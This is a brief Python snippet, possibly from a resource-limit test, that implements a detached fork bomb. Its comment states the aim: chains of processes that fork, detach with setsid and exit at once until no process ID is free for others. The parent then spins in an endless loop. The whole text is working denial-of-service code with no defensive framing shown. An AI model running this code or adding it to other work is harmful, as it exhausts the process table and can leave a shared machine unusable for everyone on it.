# tries: chains of forks, each link leaving at once, until no process number is free for others
for _ in range(4):
    if os.fork():
        continue
    while True:
        with suppress(OSError):
            if os.fork():
                os._exit(0)
            os.setsid()
while True:
    pass
